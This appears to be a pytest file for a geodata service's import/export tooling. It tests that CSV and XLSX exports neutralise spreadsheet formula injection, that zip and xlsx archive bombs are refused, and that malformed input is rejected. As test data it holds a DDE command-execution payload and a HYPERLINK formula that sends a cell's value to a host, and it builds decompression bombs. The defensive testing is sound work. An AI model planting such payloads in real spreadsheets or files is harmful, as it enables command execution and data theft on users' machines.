"""Security of files in and out: formula injection in exports, archive bombs, bad input (issue 10).

The web side of the same cases is in ``tests/web/test_security_io_web.py``.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner
from io_helpers import make_district, run, shapefile_bomb, write_csv, write_zipped_shapefile
from io_helpers import write_xlsx as write_xlsx_rows
from shapely import Point
from sqlalchemy import text

from geodata.export import export_layer
from geodata.readers import _shapefile_encoding, read_input
from geodata.sheets import FORMULA_STARTS, neutralise, write_xlsx
from geodata.sheets import write_csv as sheet_csv
from gridsvc.cli import cli
from gridsvc.db import make_engine
from gridsvc.errors import InputRejected

#: The probe's payloads (issue 10, item 3).
HYPERLINK = '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = (HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1")


def formula_cells(book: openpyxl.Workbook) -> list[str]:
    """Coordinates of every formula cell of a workbook."""
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def csv_cells(data: bytes) -> list[str]:
    """Every cell of a UTF-8 (BOM) CSV."""
    return [v for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for v in row]


def assert_no_formula_in_csv(data: bytes) -> None:
    risky = [v for v in csv_cells(data) if v.startswith(FORMULA_STARTS)]
    assert not risky, risky


def test_neutralise_rule():
    assert [neutralise(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert neutralise("张三") == "张三" and neutralise(-5) == -5 and neutralise(None) is None
    assert neutralise("a=b") == "a=b"


def test_writers_never_write_a_formula(tmp_path):
    table = pd.DataFrame({"code": list(PAYLOADS), "n": range(len(PAYLOADS))})
    data = sheet_csv(table)
    assert_no_formula_in_csv(data)
    assert "'" + HYPERLINK in csv_cells(data)
    book = openpyxl.load_workbook(io.BytesIO(write_xlsx({"t": table})))
    assert formula_cells(book) == []
    values = [c.value for c in book["t"]["A"][1:]]
    assert values == [p.replace("\r", "\n") for p in PAYLOADS]  # as text (XML reads CR as LF)
    assert all(c.quotePrefix for c in book["t"]["A"][1:])
    assert [c.value for c in book["t"]["B"][1:]] == list(range(len(PAYLOADS)))


@pytest.fixture
def poisoned(conn, settings, tmp_path):
    """Households with the probe's payloads as name and phone, one with a payload as code
    (written by SQL: the importer refuses such codes)."""
    make_district(conn)
    header = ["code", "name", "phone", "lon", "lat"]
    rows = [["H1", HYPERLINK, DDE, 114.3125, 30.5825], ["H2", DDE, DDE, 114.305, 30.585]]
    run(conn, settings, "households", write_csv(tmp_path / "in.csv", header, rows), crs="4326")
    conn.execute(text("UPDATE households SET code = :c WHERE code = 'H2'"), {"c": HYPERLINK})
    return conn


@pytest.mark.parametrize("unmasked", [False, True])
def test_layer_exports_neutralise_masked_or_not(poisoned, tmp_path, unmasked):
    out_csv, out_xlsx = tmp_path / "h.csv", tmp_path / "h.xlsx"
    export_layer(poisoned, "households", out_csv, unmasked=unmasked)
    export_layer(poisoned, "households", out_xlsx, unmasked=unmasked)
    data = out_csv.read_bytes()
    assert_no_formula_in_csv(data)
    assert "'" + HYPERLINK in csv_cells(data)  # the code, never masked
    book = openpyxl.load_workbook(out_xlsx)
    assert formula_cells(book) == []
    values = {c.value for row in book.active.iter_rows() for c in row}
    assert HYPERLINK in values
    if unmasked:
        assert DDE in values and "'" + DDE in csv_cells(data)


def test_import_rejects_csv_neutralises_values(conn, settings, tmp_path):
    make_district(conn)
    header = ["code", "lon", "lat", "building_code"]
    path = write_csv(tmp_path / "h.csv", header, [["H1", 114.31, 30.585, DDE]])
    out = tmp_path / "rejects.csv"
    result = run(
        conn, settings, "households", path, crs="4326", skip_invalid=True, rejects_path=out
    )
    assert result.rejects
    assert_no_formula_in_csv(out.read_bytes())
    assert "'" + DDE in csv_cells(out.read_bytes())


@pytest.fixture
def scratch(scratch_url):
    yield scratch_url
    engine = make_engine(scratch_url)
    with engine.begin() as conn:
        conn.execute(text("DELETE FROM streets WHERE code = '420106001'"))
        conn.execute(text("DELETE FROM households WHERE code IN ('H1', :c)"), {"c": HYPERLINK})
        conn.execute(text("DELETE FROM import_log WHERE source = 'in.csv'"))
    engine.dispose()


def test_cli_export_neutralises(scratch, settings, tmp_path):
    engine = make_engine(scratch)
    with engine.begin() as conn:
        make_district(conn)
        header = ["code", "name", "phone", "lon", "lat"]
        rows = [["H1", HYPERLINK, DDE, 114.3125, 30.5825]]
        path = write_csv(tmp_path / "in.csv", header, rows)
        run(conn, settings, "households", path, crs="4326")
        conn.execute(text("UPDATE households SET code = :c WHERE code = 'H1'"), {"c": HYPERLINK})
    engine.dispose()
    env = {"GRIDSVC_DATABASE_URL": scratch}
    for suffix in ("csv", "xlsx"):
        for extra in ([], ["--unmasked"]):
            out = tmp_path / f"h{len(extra)}.{suffix}"
            args = ["export", "households", str(out), "--street", "420106001", *extra]
            result = CliRunner().invoke(cli, args, env=env)
            assert result.exit_code == 0, result.output
            if suffix == "csv":
                assert_no_formula_in_csv(out.read_bytes())
            else:
                assert formula_cells(openpyxl.load_workbook(out)) == []


# --- archives (item 4) -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def bomb(tmp_path_factory) -> Path:
    return shapefile_bomb(tmp_path_factory.mktemp("bomb") / "bomb.zip")


def test_bomb_is_small_and_refused_by_ratio_and_total(bomb, tmp_path):
    assert bomb.stat().st_size < 2e6
    with pytest.raises(InputRejected) as caught:
        read_input(bomb, max_unzipped_mb=1e6)  # total cap out of the way: the ratio refuses
    assert "would grow" in str(caught.value.rejects[0]) and "s.dbf" in str(caught.value.rejects[0])
    with pytest.raises(InputRejected) as caught:
        read_input(bomb, max_zip_ratio=1e6)
    assert "GRIDSVC_MAX_UNZIPPED_MB" in str(caught.value.rejects[0])


def test_bomb_through_the_cli_stays_under_300_mb(bomb, scratch_url):
    """``gridsvc import stations bomb.zip`` in a subprocess: a clear reject, exit code 3,
    an import_log row, and a peak resident size (its own and its children's) under 300 MB."""
    probe = (
        "import resource, subprocess, sys; "
        "done = subprocess.run(sys.argv[1:], capture_output=True, text=True); "
        "print(done.returncode); print(done.stderr); "
        "print('PEAK_KB', resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)"
    )
    gridsvc = str(Path(sys.executable).with_name("gridsvc"))
    env = {**os.environ, "GRIDSVC_DATABASE_URL": scratch_url}
    done = subprocess.run(
        [sys.executable, "-c", probe, gridsvc, "import", "stations", str(bomb)],
        capture_output=True,
        text=True,
        env=env,
        timeout=300,
        check=True,
    )
    lines = done.stdout.splitlines()
    assert lines[0] == "3", done.stdout
    assert "bomb.zip: file rejected, nothing imported" in done.stdout
    assert "GRIDSVC_MAX_UNZIPPED_MB" in done.stdout
    peak_mb = int(lines[-1].split()[1]) / 1024
    assert peak_mb < 300, peak_mb
    engine = make_engine(scratch_url)
    with engine.begin() as conn:
        logged = conn.execute(
            text("DELETE FROM import_log WHERE source = 'bomb.zip' RETURNING rejected")
        ).all()
    engine.dispose()
    assert [tuple(r) for r in logged] == [(1,)]


def test_xlsx_bomb_is_refused(tmp_path):
    book = tmp_path / "big.xlsx"
    write_xlsx_rows(book, ["code", "lon", "lat"], [["S1", 114.31, 30.585]])
    with (
        zipfile.ZipFile(book, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("xl/media/pad.bin", "w", force_zip64=True) as out,
    ):
        for _ in range(4):
            out.write(bytes(1 << 24))
    with pytest.raises(InputRejected) as caught:
        read_input(book)
    assert "'xl/media/pad.bin' would grow" in str(caught.value.rejects[0])


def test_encoding_detected_from_a_bounded_sample(tmp_path):
    """A GBK Shapefile without .cpg is still read right; the sample is bounded even when the
    .dbf is large (a bomb under the caps)."""
    names = ["和平社区站", "积玉桥站"]
    gdf = gpd.GeoDataFrame(
        {"code": ["S1", "S2"], "name": names},
        geometry=[Point(114.31, 30.585), Point(114.311, 30.585)],
        crs=4326,
    )
    path = write_zipped_shapefile(tmp_path / "gbk.zip", gdf, encoding="gbk", cpg=False)
    raw = read_input(path)
    assert raw.encoding == "GB18030" and list(raw.frame["name"]) == names
    padded = shapefile_bomb(tmp_path / "pad.zip", padding=64 << 20)
    assert _shapefile_encoding(padded) == "UTF-8"
    assert tracemalloc_peak(lambda: _shapefile_encoding(padded)) < 8 << 20


def tracemalloc_peak(action) -> int:
    """Peak bytes Python allocated while running ``action``."""
    import tracemalloc

    tracemalloc.start()
    try:
        action()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


# --- bad input through the CLI (items 8, 11, 12) -----------------------------------------------


def test_cli_csv_with_nul_is_a_named_reject_with_an_import_log_row(scratch, tmp_path):
    path = tmp_path / "nul.csv"
    path.write_bytes(b"code,name,lon,lat\nS1,ok,114.31,30.585\nS2,bad\x00name,114.31,30.585\n")
    result = CliRunner().invoke(
        cli,
        ["import", "stations", str(path), "--crs", "4326"],
        env={"GRIDSVC_DATABASE_URL": scratch},
    )
    assert result.exit_code == 3, result.output
    assert "nul.csv, record 2, field name: holds a control character (such as NUL)" in result.output
    engine = make_engine(scratch)
    with engine.begin() as conn:
        logged = conn.execute(
            text("DELETE FROM import_log WHERE source = 'nul.csv' RETURNING rejected, inserted")
        ).all()
        stations = conn.scalar(text("SELECT count(*) FROM stations WHERE code IN ('S1', 'S2')"))
    engine.dispose()
    assert [tuple(r) for r in logged] == [(1, 0)] and stations == 0


def test_codes_lengths_and_parent_nouns(conn, settings, tmp_path):
    make_district(conn)
    header = ["code", "name", "phone", "lon", "lat", "community_code"]
    rows = [
        ["H/1", "甲", "", 114.31, 30.585, ""],
        ["=1+1", "乙", "", 114.31, 30.585, ""],
        ["H" * 65, "丙", "", 114.31, 30.585, ""],
        ["H4", "丁" * 101, "1" * 33, 114.31, 30.585, ""],
        ["H5", "戊", "", 114.31, 30.585, "420106001099"],
        ["户-6", "己", "", 114.31, 30.585, ""],
    ]
    path = write_csv(tmp_path / "h.csv", header, rows)
    with pytest.raises(InputRejected) as caught:
        run(conn, settings, "households", path, crs="4326")
    found = {(r.record, r.field): r.reason for r in caught.value.rejects}
    assert "letters, digits" in found[(1, "code")] and "letters, digits" in found[(2, "code")]
    assert found[(3, "code")] == "65 characters, more than the 64 allowed"
    assert found[(4, "name")] == "101 characters, more than the 100 allowed"
    assert found[(4, "phone")] == "33 characters, more than the 32 allowed"
    assert 6 not in {r.record for r in caught.value.rejects}  # Chinese letters are fine
    rows = [["H5", "戊", "", 114.31, 30.585, "420106001099"]]
    path = write_csv(tmp_path / "h5.csv", header, rows)
    with pytest.raises(InputRejected) as caught:
        run(conn, settings, "households", path, crs="4326")
    assert [r.reason for r in caught.value.rejects] == ["unknown community code"]
